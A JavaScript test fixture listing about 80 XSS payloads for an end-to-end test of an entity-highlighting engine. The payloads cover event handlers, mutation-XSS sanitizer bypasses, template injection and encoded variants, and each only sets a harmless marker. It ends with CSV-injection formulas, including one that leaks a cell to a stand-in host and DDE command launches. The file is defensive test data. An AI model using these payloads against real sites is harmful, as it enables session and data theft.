// XSS payloads for tests/e2e/xss.test.mjs (data only; nothing here is ever run by the tests
// themselves). Each payload, if a browser ever executed it, sets window.__pwned (or its parent's
// or top's) to its own id, so a failure names the payload. `expect` lists mentions the engine
// must still find in the text around the markup (entity names inside or next to the payload are
// highlighted, the markup stays text).
//
// Sources of the shapes: the OWASP XSS Filter Evasion Cheat Sheet, PortSwigger's XSS cheat sheet,
// and published mutation-XSS (mXSS) bypasses of HTML sanitizers (namespace confusion between
// HTML, SVG and MathML; <noscript>/<style> parsing differences).

const f = (id) => `window.__pwned=${id}`;

export const PAYLOADS = [
  // Plain script and event-handler injection.
  { name: 'script element', payload: `<script>${f(1)}</script>` },
  { name: 'script with data: src', payload: `<script src="data:text/javascript,${f(2)}"></script>` },
  { name: 'img onerror', payload: `<img src=x onerror=${f(3)}>` },
  { name: 'img onerror before a country', payload: `<img src=x onerror=${f(4)}>France`, expect: ['France'] },
  { name: 'svg onload', payload: `<svg onload=${f(5)}>` },
  { name: 'script inside svg', payload: `<svg><script>${f(6)}</script></svg>` },
  { name: 'iframe srcdoc', payload: `<iframe srcdoc="<script>parent.__pwned=7</script>"></iframe>` },
  { name: 'iframe javascript: src', payload: `<iframe src="javascript:parent.__pwned=8"></iframe>` },
  { name: 'javascript: link around a country', payload: `<a href="javascript:${f(9)}">Germany</a> signed.`, expect: ['Germany'] },
  { name: 'img without quotes or spaces', payload: `<img/src=x/onerror=${f(10)}>` },
  { name: 'svg animate onbegin', payload: `<svg><animate onbegin=${f(11)} attributeName=x dur=1s>` },
  { name: 'details ontoggle', payload: `<details open ontoggle=${f(12)}>Kenya</details>`, expect: ['Kenya'] },
  { name: 'body onload', payload: `<body onload=${f(13)}>` },
  { name: 'input autofocus onfocus', payload: `<input autofocus onfocus=${f(14)}>` },
  { name: 'video source onerror', payload: `<video><source onerror=${f(15)}></video>` },
  { name: 'audio onerror', payload: `<audio src=x onerror=${f(16)}>` },
  { name: 'marquee onstart', payload: `<marquee onstart=${f(17)}>Uganda</marquee>`, expect: ['Uganda'] },
  { name: 'custom element onclick', payload: `<x onclick=${f(18)}>click Kenya</x>`, expect: ['Kenya'] },
  { name: 'div onmouseover covering the page', payload: `<div onmouseover="${f(19)}" style="position:fixed;inset:0">Uganda</div>`, expect: ['Uganda'] },
  { name: 'form javascript: action', payload: `<form action="javascript:${f(20)}"><button>Submit</button></form>` },
  // Namespace confusion and mutation XSS (strings that sanitizers parse differently from browsers).
  { name: 'mXSS noscript title', payload: `<noscript><p title="</noscript><img src=x onerror=${f(21)}>">` },
  { name: 'mXSS math mtext mglyph style', payload: `<math><mtext><table><mglyph><style><img src=x onerror=${f(22)}>` },
  { name: 'mXSS form math textarea', payload: `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${f(23)} src=1>">` },
  { name: 'mXSS svg p style', payload: `<svg></p><style><a id="</style><img src=1 onerror=${f(24)}>">` },
  { name: 'mXSS table noscript', payload: `<table><td><noscript></td><img src=x onerror=${f(25)}></noscript>` },
  { name: 'math href javascript:', payload: `<math href="javascript:${f(26)}">CLICK</math>` },
  { name: 'svg xlink:href javascript:', payload: `<svg><a xlink:href="javascript:${f(27)}"><text x="20" y="20">Kenya</text></a></svg>`, expect: ['Kenya'] },
  { name: 'svg use data: document', payload: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='top.__pwned=28'/></svg>#x"/></svg>` },
  { name: 'nested script split', payload: `<scr<script>ipt>${f(29)}</scr</script>ipt>` },
  // Template and framework injections.
  { name: 'Angular constructor', payload: `{{constructor.constructor('${f(30)}')()}}` },
  { name: 'JS template literal', payload: '${' + f(31) + '}' },
  { name: 'ng-app expression', payload: `{{7*7}}<div ng-app>{{constructor.constructor('${f(32)}')()}}</div>` },
  { name: 'server template tag', payload: `<%= ${f(33)} %>` },
  { name: 'Vue/Handlebars triple stash', payload: `{{{${f(34)}}}} and {{__proto__.constructor.constructor('${f(34)}')()}}` },
  // CSS.
  { name: 'CSS expression()', payload: `<div style="width: expression(${f(35)})">NATO</div>`, expect: ['NATO'] },
  { name: 'CSS url(javascript:)', payload: `<div style="background:url(javascript:${f(36)})">` },
  { name: 'style @import javascript:', payload: `<style>@import 'javascript:${f(37)}';</style>` },
  { name: 'link stylesheet javascript:', payload: `<link rel=stylesheet href="javascript:${f(38)}">` },
  { name: 'style breakout', payload: `</style><style>*{background:url("javascript:${f(39)}")}</style>` },
  // Plugins, base, meta.
  { name: 'object javascript: data', payload: `<object data="javascript:${f(40)}"></object>` },
  { name: 'object data: html', payload: `<object data="data:text/html,<script>parent.__pwned=41</script>"></object>` },
  { name: 'embed javascript:', payload: `<embed src="javascript:${f(42)}">` },
  { name: 'embed data: html', payload: `<embed src="data:text/html,<script>parent.__pwned=43</script>">` },
  { name: 'base href javascript:', payload: `<base href="javascript:${f(44)}//"><a href=x>link</a>` },
  { name: 'meta refresh javascript:', payload: `<meta http-equiv="refresh" content="0;url=javascript:${f(45)}">` },
  { name: 'iframe data: html', payload: `<iframe src="data:text/html,<script>parent.__pwned=46</script>">` },
  { name: 'iframe srcdoc with entities', payload: `<iframe srcdoc="&lt;img src=x onerror=parent.__pwned=47&gt;">` },
  // Breaking out of the surrounding markup.
  { name: 'attribute breakout', payload: `"><img src=x onerror=${f(48)}>` },
  { name: 'single-quoted attribute breakout', payload: `'><script>${f(49)}</script>` },
  { name: 'textarea breakout', payload: `</textarea><script>${f(50)}</script>` },
  { name: 'title breakout', payload: `</title><script>${f(51)}</script>` },
  { name: 'comment breakout', payload: `--><script>${f(52)}</script><!--` },
  { name: 'CDATA', payload: `<![CDATA[<script>${f(53)}</script>]]>` },
  { name: 'XML prolog', payload: `<?xml version="1.0"?><script>${f(54)}</script>` },
  { name: 'template element', payload: `<template><img src=x onerror=${f(55)}></template>` },
  { name: 'select template style', payload: `<select><template><style><img src=x onerror=${f(56)}>` },
  // Encoded variants.
  { name: 'HTML entities', payload: `&lt;img src=x onerror=${f(57)}&gt;` },
  { name: 'numeric entities', payload: `&#60;script&#62;${f(58)}&#60;/script&#62;` },
  { name: 'entity inside a handler', payload: `<img src=x onerror=&#119;indow.__pwned=59>` },
  { name: 'URL-encoded', payload: `%3Cscript%3E${f(60)}%3C/script%3E` },
  { name: 'JS escapes as text', payload: `\\u003cscript\\u003e${f(61)}\\u003c/script\\u003e` },
  { name: 'tab inside javascript:', payload: `<a href="jav&#x09;ascript:${f(62)}">NATO</a>`, expect: ['NATO'] },
  { name: 'mixed-case javascript: in img', payload: `<IMG SRC=JaVaScRiPt:${f(63)}>` },
  { name: 'base64 eval', payload: `<img src=x onerror=eval(atob('${Buffer.from(f(64)).toString('base64')}'))>` },
  { name: 'fullwidth brackets', payload: `＜script＞${f(65)}＜/script＞` },
  { name: 'bare javascript: URL', payload: `javascript:${f(66)}` },
  { name: 'bare data: URL', payload: `data:text/html,<script>parent.__pwned=67</script>` },
  { name: '__proto__ JSON', payload: `{"__proto__":{"__pwned":68},"constructor":{"prototype":{"__pwned":68}}}` },
  // Unicode around the markup: emoji, ZWJ sequences, bidi controls, a lone surrogate.
  { name: 'emoji and ZWJ around img', payload: `👨‍👩‍👧 <img src=x onerror=${f(69)}> 🇫🇷 France`, expect: ['France'] },
  { name: 'ZWJ-wrapped svg', payload: `\u200d<svg/onload=${f(70)}>\u200d Kenya`, expect: ['Kenya'] },
  { name: 'RTL override around img', payload: `\u202e<img src=x onerror=${f(71)}>\u202c Uganda`, expect: ['Uganda'] },
  { name: 'Arabic text and RLM', payload: `مرحبا \u200f<script>${f(72)}</script> Germany`, expect: ['Germany'] },
  { name: 'lone surrogates', payload: `\ud800<img src=x onerror=${f(73)}>\udc00 France`, expect: ['France'] },
  // Size and malformed markup.
  { name: '100 KB attribute value', payload: `<img src=x title="${'A'.repeat(100_000)}" onerror=${f(74)}> Kenya`, expect: ['Kenya'] },
  { name: 'unterminated img', payload: `<img src=x onerror=${f(75)}` },
  { name: 'unterminated script', payload: `<script>${f(76)}` },
  { name: 'unterminated attribute', payload: `<div title="x><script>${f(77)}</script>` },
  { name: 'payload across lines', payload: `Kenya and\n<img\nsrc=x\nonerror=${f(78)}\n>\nUganda signed.`, expect: ['Kenya', 'Uganda'] },
  { name: 'isindex', payload: `<isindex action=javascript:${f(79)} type=image>` },
  { name: 'frameset onload', payload: `<frameset onload=${f(80)}>` },
].map((p, i) => ({ id: i + 1, ...p }));

// Every payload names its own flag value; keep the ids in step with the list.
for (const p of PAYLOADS) {
  if (!p.payload.includes(`__pwned=${p.id}`) && !p.payload.includes(`"__pwned":${p.id}`) && !p.payload.includes(Buffer.from(f(p.id)).toString('base64'))) {
    throw new Error(`xss-payloads: payload ${p.id} (${p.name}) does not set __pwned=${p.id}`);
  }
}

/** Cells a spreadsheet would run as formulas (CSV injection). */
export const FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"France")', '+SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
